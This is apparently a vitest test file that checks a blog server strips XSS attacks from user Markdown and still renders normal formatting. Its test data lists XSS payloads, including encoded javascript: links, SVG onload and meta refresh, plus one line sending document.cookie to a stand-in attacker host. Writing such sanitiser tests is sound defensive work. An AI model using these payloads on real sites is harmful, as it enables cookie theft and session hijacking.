import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { contentOf, createBlogWorld, fetchPage, type BlogWorld } from '../support/blog';
import { startTestServer, type TestServer } from '../support/test-server';

/**
 * Markdown written to attack the blog's readers, saved through supabase-js and published: each attack is gone from
 * the HTML our server serves (and from what the database stores for the SPA), while the harmless text stays.
 */
let server: TestServer;
let blog: BlogWorld;

beforeAll(async () => {
  server = await startTestServer();
  blog = await createBlogWorld(server, 'attacked-blog');
});

afterAll(async () => {
  await server?.close();
});

const attacks: { name: string; markdown: string; kept: string; gone: RegExp[] }[] = [
  { name: 'a script element', markdown: 'Before <script>alert("x")</script> after', kept: 'Before', gone: [/<script/i, /alert/] },
  { name: 'a script split over lines', markdown: '<script>\nfetch("https://evil.example/" + document.cookie)\n</script>\n\nStill here', kept: 'Still here', gone: [/<script/i, /document\.cookie/] },
  { name: 'event handlers', markdown: '<p onclick="alert(1)">Click</p> <img src="https://img.example/a.png" onerror="alert(2)"> <a href="https://ok.example" onmouseover="alert(3)">Hover</a>', kept: 'Hover', gone: [/\son[a-z]+=/i, /alert/] },
  { name: 'javascript: links in Markdown', markdown: '[Click me](javascript:alert(1)) and [again](JaVaScRiPt:alert(1))', kept: 'Click me', gone: [/href="javascript/i, /<a href="java/i] },
  { name: 'javascript: links in HTML, encoded', markdown: '<a href="javascript:alert(1)">one</a> <a href="jav&#x09;ascript:alert(1)">two</a> <a href="&#106;avascript:alert(1)">three</a>', kept: 'three', gone: [/href=/i] },
  { name: 'iframes', markdown: 'Watch <iframe src="https://evil.example/frame" width="600"></iframe> this', kept: 'Watch', gone: [/<iframe/i, /evil\.example/] },
  { name: 'data: URLs', markdown: '![pixel](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) <img src="data:image/png;base64,iVBORw0KGgo="> <a href="data:text/html,<script>alert(1)</script>">open</a>', kept: 'open', gone: [/(src|href)="?data:/i, /<img/i, /<script/i] },
  { name: 'inline SVG', markdown: 'Logo <svg onload="alert(1)" xmlns="http://www.w3.org/2000/svg"><script>alert(2)</script><a href="javascript:alert(3)"><circle r="5"/></a></svg> end', kept: 'Logo', gone: [/<svg/i, /<circle/i, /alert/] },
  { name: 'objects, embeds, forms, styles and base', markdown: '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x"><form action="https://evil.example"><input name="q"></form><style>body{display:none}</style><base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">Text', kept: 'Text', gone: [/<(object|embed|form|input|style|base|meta)/i, /evil\.example/] },
];

describe('Markdown with an attack is sanitised on the server before it is served', () => {
  it.each(attacks)('$name', async ({ markdown, kept, gone }) => {
    const item = await blog.addItem({ title: `Attack ${Math.random().toString(36).slice(2)}`, content: markdown });
    const page = await fetchPage(server, `/blog/attacked-blog/${item.slug}`);
    expect(page.status).toBe(200);
    const content = contentOf(page.body);
    expect(content).toContain(kept);
    for (const pattern of gone) expect(content).not.toMatch(pattern);
    // What the SPA shows on hosted Supabase: the same stored HTML, through the anon function.
    const { data } = await server.client().rpc('get_public_blog_post', { blog_slug: 'attacked-blog', post_slug: item.slug });
    expect(data?.[0]?.content_html).toBe(content);
  });

  it('keeps what Markdown is for: headings, emphasis, lists, code, tables, quotes, links and https images', async () => {
    const item = await blog.addItem({
      title: 'Everything Markdown does',
      content: '## Plan\n\n*soft* **bold** ~~gone~~\n\n1. one\n2. two\n\n> quoted\n\n```ts\nconst a = 1 < 2;\n```\n\n| a | b |\n|:-|-:|\n| 1 | 2 |\n\n![Chart](https://img.example/chart.png) <https://example.com>',
    });
    const content = contentOf((await fetchPage(server, `/blog/attacked-blog/${item.slug}`)).body);
    expect(content).toContain('<h3>Plan</h3>');
    expect(content).toContain('<em>soft</em> <strong>bold</strong> <s>gone</s>');
    expect(content).toContain('<ol>');
    expect(content).toContain('<blockquote>');
    expect(content).toContain('<code class="language-ts">const a = 1 &lt; 2;');
    expect(content).toContain('<th style="text-align:left">a</th>');
    expect(content).toContain('<img src="https://img.example/chart.png" alt="Chart" loading="lazy" decoding="async" />');
    expect(content).toContain('<a href="https://example.com">https://example.com</a>');
  });
});
